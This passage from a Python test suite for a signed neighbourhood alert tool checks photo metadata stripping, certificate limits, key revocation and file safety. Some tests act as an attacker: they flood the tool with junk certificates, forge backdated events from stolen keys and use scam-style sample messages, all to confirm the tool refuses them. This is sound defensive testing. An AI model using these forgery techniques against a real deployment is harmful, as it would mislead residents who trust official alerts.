              "%s: expected one line naming what was removed, got:\n%s" % (name, err))
        c = env.json("show", out.strip(), "--dir", "v", "--json")["content"]
        stored = base64.b64decode(c["photo"])
        check(stored == plain, "%s: the stored photo is not the picture without its metadata:\n%s\n%s"
              % (name, stored.hex(), plain.hex()))
        check(b"Exif" not in stored and b"II*\0" not in stored, "%s: EXIF is still in the stored photo" % name)
        # the plain picture goes through untouched, and nothing is said
        with open(env.path("plain-" + name), "wb") as f:
            f.write(plain)
        out, err = post(["alert", "--headline", "寻人", "--text", "走失儿童", "--area", "东区",
                         "--photo", "plain-" + name])
        check(err == "", "%s: a photo without metadata: %r" % (name, err))

    # damaged photos: refused with the reason, nothing stored
    stored = env.feed_ids("v")
    for name, data, reason in [("cut.jpg", jpeg_gps[:-2], "the JPEG ends inside its image data"),
                               ("short.jpg", b"\xff\xd8\xff\xe0\x00\x01" + bytes(range(256)),
                                "the JPEG ends inside a segment at byte 2"),
                               ("crc.png", png_gps[:50] + bytes([png_gps[50] ^ 1]) + png_gps[51:], "eXIf chunk at byte 33 fails its CRC"),
                               ("big.webp", webp[:-4], "shorter than its header says")]:
        with open(env.path(name), "wb") as f:
            f.write(data)
        out, err = post(["alert", "--headline", "寻人", "--text", "走失", "--area", "东区",
                         "--photo", name], rc=1)
        lines = err.strip().splitlines()
        check(len(lines) == 1 and lines[0].startswith("watchmesh: refused: " + name + ": ") and
              reason in lines[0], "%s: not refused with the reason:\n%s" % (name, err))
    check(env.feed_ids("v") == stored, "a refused post was stored")
    check(len(stored) == len(before) + 4 + 6, "expected 4 bulletins and 6 alerts stored")


def t_certflood(env):
    """Issue 8, item 3, as an attacker does it: a second station signs
    4,100 junk resident certs (0.9 MB, crafted with PyNaCl) for the first
    station's officer.  Past the limit per issuer and subject they are
    refused for a passing reason, not remembered; the officer's next
    bulletin is still official, shown with his own name."""
    import time as _t

    env.world("v")
    env.key("station2.key")
    env.cert("net.root.key", "station2.key", "station", "流氓派出所", "*", node="v")
    officer = bytes.fromhex(env.run("key", "show", "officer.key")[0].strip())
    seed = wmtest.key_seed(env.path("station2.key"))
    net = wmtest.network_id(env.path("net"))
    now = int(_t.time() * 1000)
    flood = [wmtest.event(seed, 7, now + i, "network",
                          {"subject": officer, "role": "resident", "name": "x%d" % i, "groups": ["*"],
                           "not_before": now - 86400000, "not_after": now + 86400000}, network=net)[0]
             for i in range(4100)]
    with open(env.path("flood.wm"), "wb") as f:
        f.write(b"".join(flood))
    check(os.path.getsize(env.path("flood.wm")) > 800000, "the flood is smaller than 0.8 MB")
    for attempt in (1, 2):
        out, err = env.run("import", "--dir", "v", "flood.wm", rc=None)
        lines = refused_lines(err)
        stored = 8 if attempt == 1 else 0
        check(summary(out).startswith("4100 events: %d stored" % stored), "import %d: %s" % (attempt, summary(out)))
        check(len(lines) == 4092, "import %d: expected 4092 refusals, got %d" % (attempt, len(lines)))
        # passing: the same reason the second time, never "refused earlier"
        check(all("WM_ELIMIT" in l or "at most 8" in l for l in lines) and
              not any("refused earlier" in l for l in lines),
              "import %d: not refused by the limit:\n%s" % (attempt, "\n".join(lines[:3])))
    b = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "夜间巡逻", "--text", "今晚加强巡逻。")
    check(len(b) == 64, "the officer's bulletin was not stored")
    e = [e for e in env.json("feed", "--dir", "v", "--json") if e["id"] == b]
    check(len(e) == 1 and e[0]["official"] and e[0]["official_name"] == "王警官" and
          e[0]["author_name"] == "王警官" and e[0]["author_role"] == "officer",
          "the bulletin is not shown as 王警官's: %r" % e)
    out, _ = env.run("feed", "--dir", "v")
    check("★ 王警官" in out and "(resident)" not in out, "feed:\n" + out)


def t_retractvouched(env):
    """Issue 8, item 13: a retract of an unknown id by a key with no
    certificate carries its reason into a vouched group: refused with the
    vouched reason, nothing stored.  A resident of the group may retract
    (kept waiting for its target); other groups stay open."""
    env.world("v", vouched=G)
    env.key("stranger.key")
    before = env.feed_ids("v")
    unknown = "ab" * 32
    _, err = env.run("post", "retract", "--key", "stranger.key", "--dir", "v", "--group", G,
                     "--ref", unknown, "--reason", "加微信领补贴 wx123", rc="nonzero")
    check("vouched" in err and G in err, "the refusal does not say the group is vouched: " + err)
    check(env.feed_ids("v") == before, "a refused retract was stored")
    r = env.post("retract", "v", "res1.key", "--group", G, "--ref", unknown, "--reason", "发错了")
    check(len(r) == 64, "a resident's retract in the vouched group was not stored")
    r = env.post("retract", "v", "stranger.key", "--group", "gaobu.other", "--new-group", "--ref", unknown)
    check(len(r) == 64, "another group is not open to retracts")


def t_revokedname(env):
    """Issue 8, item 14: after 赵警官's officer key is revoked, his later
    request and reply show as a plain key (text and JSON), his earlier
    ones keep his name."""
    env.world("v")
    env.key("zhao.key")
    env.cert("station.key", "zhao.key", "officer", "赵警官", G, node="v")
    early = env.post("request", "v", "zhao.key", "--group", G, "--text", "东门路灯坏了。")
    wmtest.sleep_ms(20)
    env.run("cert", "revoke", "--issuer", "station.key", "--passphrase-file", env.passfile,
            "--subject", "zhao.key", "--reason", "笔记本被盗", "--dir", "v", "--yes")
    wmtest.sleep_ms(20)
    late = env.post("request", "v", "zhao.key", "--group", G, "--text", "请把身份证号发给我核实。")
    reply = env.post("reply", "v", "zhao.key", "--group", G, "--reply-to", early, "--text", "已处理，转账即可。")
    key = env.run("key", "show", "zhao.key")[0].strip()[:8]
    evs = {e["id"]: e for e in env.json("feed", "--dir", "v", "--json", "--limit", "0")}
    check(evs[early].get("author_name") == "赵警官" and evs[early].get("author_role") == "officer",
          "the earlier request lost his name: %r" % evs[early])
    for i in (late, reply):
        check(not evs[i]["official"] and "author_name" not in evs[i] and "author_role" not in evs[i],
              "a post after the revoke keeps a name or role: %r" % evs[i])
    for i in (late, reply):
        out, _ = env.run("show", i, "--dir", "v")
        head = out.splitlines()[0]
        check("赵警官" not in head and "officer" not in head and "key " + key in head,
              "after the revoke shown as:\n" + out)
    out, _ = env.run("show", early, "--dir", "v")
    check("赵警官" in out.splitlines()[0], "the earlier request is not shown with his name:\n" + out)


def t_revoke(env):
    """Issue 8, items 1 and 2, against the CLI, the attacker's events crafted
    with PyNaCl from the stolen keys' seeds."""
    env.world("v")
    net = wmtest.network_id(env.path("net"))

    def now():
        return int(time.time() * 1000)

    def feed():
        return {e["id"]: e for e in env.json("feed", "--dir", "v", "--json", "--all", "--limit", "0")}

    def official(i, name):
        e = feed().get(i)
        return e is not None and e["official"] and e.get("official_name") == name

    def pub_of(key):
        with open(env.path(key)) as f:
            return next(l.split()[1] for l in f if l.startswith("public "))

    def craft(path, *evs):
        with open(env.path(path), "wb") as f:
            f.write(b"".join(w for w, _ in evs))
        _, err = env.run("import", "--dir", "v", path)
        return err

    bull = {"title": "紧急通知", "text": "假的", "category": "safety"}
    # officer K (a plain key, so the test can play the thief) and his history
    env.key("k.key")
    env.cert("station.key", "k.key", "officer", "张警官", G, node="v")
    env.key("o2.key")
    env.cert("station.key", "o2.key", "officer", "李警官", G, node="v")
    k = wmtest.key_seed(env.path("k.key"))
    p1 = env.post("bulletin", "v", "k.key", "--group", G, "--title", "一", "--text", "真的一")
    p2 = env.post("bulletin", "v", "k.key", "--group", G, "--title", "二", "--text", "真的二")
    wmtest.sleep_ms(20)
    # without --yes, off a terminal: refused, nothing signed
    _, err = env.run("cert", "revoke", "--issuer", "station.key", "--passphrase-file", env.passfile,
                     "--subject", "k.key", "--dir", "v", rc=1)
    check("--yes" in err, "no confirmation asked: " + err)
    t_rev = now()
    out, _ = env.run("cert", "revoke", "--issuer", "station.key", "--passphrase-file", env.passfile,
                     "--subject", "k.key", "--reason", "笔记本被盗", "--dir", "v", "--yes")
    check("tip" in out and p2[:16] in out and p1[:16] not in out.split("keep:")[0].split("tip")[1],
          "the tip shown is not the last bulletin:\n" + out)
    wmtest.sleep_ms(20)
    q = env.post("bulletin", "v", "o2.key", "--group", G, "--title", "后", "--text", "之后的通知")
    # the thief, dating everything before the revoke, splicing onto the chain
    f1 = wmtest.event(k, 1, t_rev - 1, G, bull, prev=bytes.fromhex(p2), network=net)
    f2 = wmtest.event(k, 2, t_rev - 1, G, {"event": "Flood", "headline": "立即撤离", "text": "马上离开",
                                           "category": "Met", "urgency": "Immediate", "severity": "Extreme",
                                           "certainty": "Observed", "area_desc": "全村"},
                      expires_at=now() + 3600000, prev=bytes.fromhex(p2), network=net)
    f3 = wmtest.event(k, 6, t_rev - 1, G, {"reason": "错误"}, refs=[bytes.fromhex(q)],
                      prev=bytes.fromhex(p2), network=net)
    err = craft("thief.wm", f1, f2, f3)
    check(len(refused_lines(err)) == 3, "the thief's events were not all refused:\n" + err)
    ids = feed()
    check(f1[1] not in ids and f2[1] not in ids and f3[1] not in ids, "a forged event is shown")
    check(q in ids and not ids[q].get("retracted"), "the later bulletin was retracted")
    check(official(p1, "张警官") and official(p2, "张警官"), "the real history lost its badge")
    out, _ = env.run("feed", "--dir", "v")
    check("假的" not in out and "立即撤离" not in out, "a forged text on screen:\n" + out)

    # a second station, stolen: first its rogue acts, then root revokes it
    env.key("s2.key")
    env.key("o3.key")
    env.cert("net.root.key", "s2.key", "station", "东风派出所", "*", node="v")
    env.cert("s2.key", "o3.key", "officer", "赵警官", G, node="v")
    s2 = wmtest.key_seed(env.path("s2.key"))
    b3 = env.post("bulletin", "v", "o3.key", "--group", G, "--title", "三", "--text", "赵的通知")
    wmtest.sleep_ms(1100)
    since = now()
    wmtest.sleep_ms(1100)
    root_pub = open(env.path("net")).read().split("root ")[1].split()[0]

    def cert(subject, created, nb=None, na=None):
        return wmtest.event(s2, 7, created, "network",
                            {"subject": subject, "role": "officer", "name": "假警官", "groups": ["*"],
                             "not_before": nb or created, "not_after": na or created + 86400000}, network=net)

    def revoke(subject, created):
        return wmtest.event(s2, 8, created, "network", {"subject": subject, "keep": []}, network=net)

    station_pub = bytes.fromhex(pub_of("station.key"))
    o3_pub = bytes.fromhex(pub_of("o3.key"))
    t = now()
    craft("rogue.wm", cert(bytes.fromhex(root_pub), t), cert(station_pub, t))
    err = craft("rogue2.wm", revoke(bytes.fromhex(root_pub), t + 1), revoke(station_pub, t + 1),
                revoke(o3_pub, t + 1))
    check(len(refused_lines(err)) == 1 and "root" in err, "a revoke of root was not refused:\n" + err)
    check(official(p1, "张警官") and official(q, "李警官"), "a rogue station reached another station's officers")
    check(b3 not in feed(), "the rogue revoke of the officer did not hide his bulletin")
    # root revokes the station, keeping what arrived before it was stolen
    out, _ = env.run("cert", "revoke", "--issuer", "net.root.key", "--passphrase-file", env.passfile,
                     "--subject", "s2.key", "--dir", "v", "--yes", "--compromised-since", str(since))
    check(official(b3, "赵警官"), "root's revoke of the station did not undo its rogue revoke:\n" + out)
    # the stolen station key, afterwards: a backdated officer cert for a new
    # key (1 ms .. 2^63, every group) and a revoke of a good officer dated 1
    env.key("x.key")
    x = wmtest.key_seed(env.path("x.key"))
    xc = cert(bytes.fromhex(pub_of("x.key")), t + 2, nb=1, na=2 ** 63)
    xb = wmtest.event(x, 1, t + 3, G, bull, network=net)
    err = craft("stolen.wm", xc, revoke(o3_pub, 1), xb)
    check(len(refused_lines(err)) == 3, "the stolen station's events were not all refused:\n" + err)
    check(xb[1] not in feed() and official(b3, "赵警官"), "the stolen station key still counts")
    # a node that does not carry every group the key's certificates cover
    # cannot fill its keep list: it may lack some of its chains
    env.run("init", "w", "--network", "net", "--name", "w")
    with open(env.path("w", "watchmesh.conf"), "a") as f:
        f.write("groups = %s\n" % G)
    env.run("export", "--dir", "v", "--out", "all.wm")
    env.run("import", "--dir", "w", "all.wm")
    _, err = env.run("cert", "revoke", "--issuer", "net.root.key", "--passphrase-file", env.passfile,
                     "--subject", "station.key", "--dir", "w", "--yes", rc=1)
    check("does not carry" in err and "*" in err, "revoking from a node missing groups: " + err)


def t_exportout(env):
    env.world("v")
    env.post("bulletin", "v", "officer.key", "--group", G, "--category", "notice", "--title", "t",
             "--text", "x")

    def refused(out, want, *extra):
        _, err = env.run("export", "--dir", "v", "--out", out, *extra, rc=1)
        check(err.startswith("watchmesh: ") and err.count("\n") == 1 and want in err,
              "export --out %s %s: %r" % (out, " ".join(extra), err))

    with open(env.path("target"), "w") as f:
        f.write("keep me\n")
    os.symlink("target", env.path("link.wm"))
    os.mkfifo(env.path("fifo.wm"))
    os.mkdir(env.path("dir.wm"))
    for extra in ((), ("--force",)):
        refused("link.wm", "link.wm is a symbolic link; not replacing it", *extra)
        refused("fifo.wm", "fifo.wm is a FIFO (named pipe); not replacing it", *extra)
        refused("dir.wm", "dir.wm is a directory; not replacing it", *extra)
        refused("/dev/null", "/dev/null is a character device; not replacing it", *extra)
    check(os.path.islink(env.path("link.wm")) and open(env.path("target")).read() == "keep me\n",
          "the symlink or its target changed")
    check(stat.S_ISFIFO(os.lstat(env.path("fifo.wm")).st_mode), "the FIFO was replaced")
    check(stat.S_ISCHR(os.stat("/dev/null").st_mode), "/dev/null was replaced")

    # an existing file: only with --force, then replaced whole
    refused("target", "target already exists; not replacing it without --force")
    check(open(env.path("target")).read() == "keep me\n", "the file changed without --force")
    env.run("export", "--dir", "v", "--out", "target", "--force")
    check(len(wmtest.read_bundle(env.path("target"))) >= 5, "the forced export is not a bundle")

    # a directory that cannot be written: the reason, and nothing left behind
    os.mkdir(env.path("ro"))
    os.chmod(env.path("ro"), 0o555)
    if os.geteuid() != 0:
        refused("ro/x.wm", "Permission denied")
    os.chmod(env.path("ro"), 0o755)
    # the temporary file goes when writing fails: a file size limit stands
    # in for a full disk (the store's own files stay below it; the export,
    # of ten long bulletins, does not)
    for i in range(10):
        env.post("bulletin", "v", "officer.key", "--group", G, "--category", "notice",
                 "--title", "t%d" % i, "--text", "long " * 3000)
    import resource
    import signal

    def limit():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # write(2) then fails with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))
    pre = set(os.listdir(env.path("ro")))
    p = subprocess.run([env.binary, "export", "--dir", "v", "--out", "ro/x.wm"], cwd=env.dir,
                       env=env.env, capture_output=True, timeout=60,
                       preexec_fn=limit)
    err = p.stderr.decode()
    env.log.append("$ watchmesh export --dir v --out ro/x.wm (file size limit 64 KiB)\n[exit %d]\n%s"
                   % (p.returncode, err))
    check(p.returncode == 1 and "File too large" in err, "export past the file size limit: %r" % err)
    check(set(os.listdir(env.path("ro"))) == pre, "a failed export left %r" %
          sorted(set(os.listdir(env.path("ro"))) - pre))


def t_fifo(env):
    env.world("v")
    env.run("export", "--dir", "v", "--out", "b.wm")
    os.mkfifo(env.path("f"))

    def at_once(*args):
        t0 = time.monotonic()
        _, err = env.run(*args, rc=1)
        secs = time.monotonic() - t0
        check(secs < 10 and "f is a FIFO (named pipe); give a regular file" in err
              and err.count("\n") == 1, "%s: %.1f s: %r" % (" ".join(args), secs, err))

    at_once("import", "--dir", "v", "f")
    at_once("post", "bulletin", "--dir", "v", "--key", "res1.key", "--group", G, "--category",
            "notice", "--title", "t", "--text-file", "f")
    at_once("post", "alert", "--dir", "v", "--key", "officer.key", "--passphrase-file", env.passfile,
            "--group", G, "--event", "e", "--headline", "h", "--text", "t", "--area", "a",
            "--photo", "f", "--expires", "1h")
    at_once("key", "show", "f")
    _, err = env.run("import", "--dir", "v", "/dev/null", rc=1)
    check("/dev/null is a character device; give a regular file" in err, "import /dev/null: " + err)

    # a passphrase from a password manager: a pipe with a writer is read
    sh = ("exec %s post bulletin --dir v --key officer.key --group %s --category notice "
          "--title t --text x --passphrase-file <(sleep 1; cat pass.txt)" % (env.binary, G))
    p = subprocess.run(["bash", "-c", sh], cwd=env.dir, env=env.env, capture_output=True, timeout=60)
    env.log.append("$ %s\n[exit %d]\n%s" % (sh, p.returncode, p.stderr.decode()))
    check(p.returncode == 0 and len(p.stdout.strip()) == 64, "passphrase from a pipe: %r" % p.stderr)
    # ... and a FIFO nobody writes to is given up, with the reason
    t0 = time.monotonic()
    _, err = env.run("post", "bulletin", "--dir", "v", "--key", "officer.key", "--group", G,
                     "--category", "notice", "--title", "t", "--text", "x", "--passphrase-file", "f",
                     rc=1)
    secs = time.monotonic() - t0
    check(25 < secs < 60 and "nothing came from f within 30 s: is anything writing to it?" in err,
          "a FIFO without a writer as passphrase file: %.1f s: %r" % (secs, err))


def t_postgroup(env):
    """An answer goes in the group of what it answers (taken from there
    without --group, refused with another); a group one or two letters from
    one the certificates name is refused with the name it probably meant,
    any other group no certificate names unless --new-group."""
    env.world()
    G = "gaobu.xinhua"
    aid = env.post("alert", "village", "officer.key", "--group", G, "--headline", "走失老人",
                   "--text", "蓝色外套", "--area", "新华村")
    rid = env.post("request", "village", "res1.key", "--group", G, "--text", "我的电动车被偷了")
    ack = env.post("ack", "village", "res2.key", "--ref", aid)
    st = env.post("status", "village", "officer.key", "--ref", rid, "--state", "acknowledged")
    for eid in (ack, st):
        out, _ = env.run("show", eid, "--dir", "village", "--json")
        check(json.loads(out)["group"] == G, "%s not in the group of what it answers: %s" % (eid, out))
    _, err = env.run("post", "ack", "--key", "res2.key", "--dir", "village", "--ref", aid,
                     "--group", "gaobu.market", rc="nonzero")
    check("is in the group gaobu.xinhua" in err and "same group" in err, "ack elsewhere: " + err)
    _, err = env.run("post", "request", "--key", "res1.key", "--dir", "village", "--group", "gaobu.xinhau",
                     "--text", "help", rc="nonzero")
    check("did you mean 'gaobu.xinhua'?" in err, "typo: " + err)
    _, err = env.run("post", "request", "--key", "res1.key", "--dir", "village", "--group", "far.away.town",
                     "--text", "help", rc="nonzero")
    check("no certificate on this node names the group 'far.away.town'" in err and "--new-group" in err,
          "an unknown group: " + err)
    out, _ = env.run("post", "request", "--key", "res1.key", "--dir", "village", "--group", "far.away.town",
                     "--text", "help", "--new-group")
    check(len(out.strip()) == 64, "an unknown group with --new-group: %r" % out)
    # --circle takes plain decimals only (strtod alone read 0x10 as 16 degrees)
    for bad in ("0x10,0,10", "1e1,0,10", "inf,0,10", " 10,0,10"):
        _, err = env.run("post", "alert", "--key", "officer.key", "--passphrase-file", env.passfile,
                         "--dir", "village", "--group", G, "--headline", "h", "--text", "t",
                         "--area", "a", "--circle", bad, rc="nonzero")
        check("--circle wants LAT,LON,RADIUS_M" in err, "--circle %s: %s" % (bad, err))


def t_feed(env):
    """The feed for people: running alerts pinned on top whatever --limit
    says; an alert updated with --update shows once, as its latest version,
    with what was not given copied from the alert and the answers to every
    version under it; answers to an alert go when it expires, unless they
    carry an expiry of their own."""
    env.world()
    G = "gaobu.xinhua"
    net = wmtest.network_id(env.path("net"))

    def feed_ids(*args):
        return [e["id"] for e in env.json("feed", "--dir", "village", "--json", *args)]

    a1 = env.post("alert", "village", "officer.key", "--group", G, "--headline", "走失老人", "--text", "蓝色外套",
                  "--area", "新华村", "--circle", "22.543096,-114.057865,2000", "--expires", "2h")
    ack = env.post("ack", "village", "res2.key", "--ref", a1)
    bulls = [env.post("bulletin", "village", "officer.key", "--group", G, "--title", "通知%d" % i,
                      "--text", "内容%d" % i) for i in range(5)]
    ids = feed_ids("--limit", "3")
    check(ids == [a1] + bulls[::-1][:3], "the running alert not pinned above --limit 3: %r" % ids)
    out, _ = env.run("feed", "--dir", "village", "--limit", "3")
    check(out.index(a1[:8]) < out.index("通知4"), "the alert not first in the text feed:\n" + out)

    # an update: the group and every field not given are the alert's
    out, err = env.run("post", "alert", "--key", "officer.key", "--passphrase-file", env.passfile,
                       "--dir", "village", "--update", a1[:8], "--text", "已在菜市场附近")
    a2 = out.strip()
    e2 = env.json("show", a2, "--dir", "village", "--json")
    c = e2["content"]
    check(e2["refs"] == [a1] and e2["group"] == G and c["headline"] == "走失老人" and c["event"] == "走失老人"
          and c["area_desc"] == "新华村" and c["text"] == "已在菜市场附近" and c["lang"] == "zh"
          and c["circle"] == [22543096, -114057865, 2000], "the update: %r" % e2)
    check(abs(e2["expires_at"] - e2["created_at"] - 7200000) < 10000, "the update does not run 2h again")
    reply = env.post("reply", "village", "res1.key", "--ref", a2, "--text", "看到了")
    ids = feed_ids("--limit", "2")
    check(ids[0] == a2 and a1 not in ids, "the update not shown once, on top: %r" % ids)
    out, _ = env.run("feed", "--dir", "village")
    top = out.split("\n\n")[0]
    check(out.count("走失老人") == 1 and "updates the alert %s" % a1[:8] in top and ack[:8] in top
          and reply[:8] in top, "the answers to both versions not under the update:\n" + out)
    # an update of an updated alert updates the latest; a bulletin is no alert
    out, err = env.run("post", "alert", "--key", "officer.key", "--passphrase-file", env.passfile,
                       "--dir", "village", "--update", a1, "--headline", "走失老人（已扩大范围）",
                       "--expires", "3h")
    a3 = out.strip()
    check("updating its latest version, %s" % a2[:8] in err, "the latest not named: " + err)
    check(env.json("show", a3, "--dir", "village", "--json")["refs"] == [a2], "not an update of the latest")
    check(feed_ids()[0] == a3 and a2 not in feed_ids(), "the third version not the one shown")
    # an alert of another group that points at it does not replace it (section 19)
    market = env.post("alert", "village", "station.key", "--group", "gaobu.market", "--new-group",
                      "--ref", a3, "--headline", "市场也请留意", "--text", "同一位老人", "--area", "市场")
    ids = feed_ids()
    check(a3 in ids and market in ids, "an alert of another group replaced it: %r" % ids)
    _, err = env.run("post", "alert", "--key", "officer.key", "--passphrase-file", env.passfile,
                     "--dir", "village", "--update", bulls[0], rc="nonzero")
    check("is not an alert" in err, "--update of a bulletin: " + err)
    _, err = env.run("post", "alert", "--key", "officer.key", "--passphrase-file", env.passfile,
                     "--dir", "village", "--update", a1, "--group", "gaobu.other", rc="nonzero")
    check("is in the group gaobu.xinhua" in err, "--update into another group: " + err)

    # an alert that runs 3 s (signed here: post takes 1m at least) and its answers
    env.key("k.key")
    env.cert("station.key", "k.key", "officer", "张警官", G, node="village")
    t = int(time.time() * 1000)
    w, short = wmtest.event(wmtest.key_seed(env.path("k.key")), 2, t, G,
                            {"event": "Flood", "headline": "河水上涨", "text": "远离河边", "category": "Met",
                             "urgency": "Immediate", "severity": "Severe", "certainty": "Observed",
                             "area_desc": "东桥"}, expires_at=t + 3000, network=net)
    with open(env.path("short.wm"), "wb") as f:
        f.write(w)
    env.run("import", "--dir", "village", "short.wm")
    r1 = env.post("reply", "village", "res1.key", "--ref", short, "--text", "西桥也在涨")
    r2 = env.post("reply", "village", "res2.key", "--ref", short, "--text", "这周都别去河边", "--expires", "1d")
    ack2 = env.post("ack", "village", "res2.key", "--ref", short)
    ids = feed_ids()
    check(all(i in ids for i in (short, r1, r2, ack2)), "the short alert and its answers: %r" % ids)
    time.sleep(max(0.0, (t + 3500) / 1000 - time.time()))
    ids = feed_ids()
    check(short not in ids and r1 not in ids and ack2 not in ids, "answers outlive their alert: %r" % ids)
    check(r2 in ids, "a reply with its own expiry went with the alert: %r" % ids)
    ids = feed_ids("--all")
    check(all(i in ids for i in (short, r1, ack2)), "--all does not show them: %r" % ids)

    # times and words for people: a local time and how far, no milliseconds
    out, _ = env.run("feed", "--dir", "village", "--all")
    at = r", at \d{4}-\d\d-\d\d \d\d:\d\d$"
    check(re.search(r"^ +expires in (2|3) hours" + at, out, re.M) and
          re.search(r"^ +expired less than a minute ago" + at, out, re.M) and
          not re.search(r"\d{13}|\b0m ago", out), "times in the feed:\n" + out)
    _, err = env.run("post", "status", "--key", "officer.key", "--passphrase-file", env.passfile,
                     "--dir", "village", "--ref", bulls[0], "--state", "acknowledged", rc="nonzero")
    check("this status answers a bulletin; a status can only answer a help request" in err,
          "a status on a bulletin: " + err)


TESTS = {"import": t_import, "resync": t_resync, "search": t_search, "pii": t_pii,
         "sealed": t_sealed, "sealed_attacks": t_sealed_attacks, "post": t_post, "errors": t_errors, "check": t_check,
         "vouched": t_vouched, "escape": t_escape, "keys": t_keys, "personal": t_personal,
         "othernet": t_othernet, "chain": t_chain, "certflood": t_certflood,
         "retractvouched": t_retractvouched, "revokedname": t_revokedname, "revoke": t_revoke,
         "exportout": t_exportout, "fifo": t_fifo, "postgroup": t_postgroup, "feed": t_feed}

if __name__ == "__main__":
    sys.exit(wmtest.main(TESTS))
